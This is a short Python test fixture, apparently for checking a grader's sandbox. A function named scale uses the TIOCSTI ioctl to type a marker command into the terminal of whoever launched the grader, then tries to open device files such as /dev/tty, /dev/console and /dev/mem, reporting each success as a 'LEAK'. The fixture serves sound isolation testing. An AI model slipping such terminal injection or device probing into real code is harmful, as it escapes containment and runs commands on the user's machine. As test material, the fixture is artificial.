# /// row
# tries = "Types a command into the terminal of whoever started the grader."
# ends = { test_visible = "failed" }
# plain = "it would type into this terminal"
# ///
import fcntl
import os
import termios


def scale(x):
    for number in range(3):
        try:
            for letter in "touch @OUTSIDE@/@MARK@\n":
                fcntl.ioctl(number, termios.TIOCSTI, letter.encode())
            print("LEAK" ":", number)
        except OSError:
            pass
    for path in ("/dev/tty", "/dev/ptmx", "/dev/pts/0", "/dev/console", "/dev/kmsg", "/dev/mem"):
        try:
            os.open(path, os.O_RDWR)
            print("LEAK" ":", path)
        except OSError:
            pass
    return x
